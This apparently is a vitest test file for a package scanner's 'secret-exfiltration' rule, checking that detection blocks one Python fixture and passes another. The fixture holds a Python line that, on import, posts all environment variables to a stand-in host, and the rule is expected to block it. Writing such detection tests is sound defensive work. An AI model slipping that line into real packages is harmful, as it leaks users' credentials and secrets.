import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './secret-exfiltration.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('blocks the environment that is sent on import', async () => {
  expect(
    await find({
      'demo/__init__.py': "import os, requests\nrequests.post('https://example.org/c', json=dict(os.environ))\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 2, true]])
})

it('leaves a client with its own token', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import os, requests\ndef items():\n    return requests.get('https://api.example.org', headers={'A': os.environ['EXAMPLE_TOKEN']})\n",
    }),
  ).toEqual([])
})
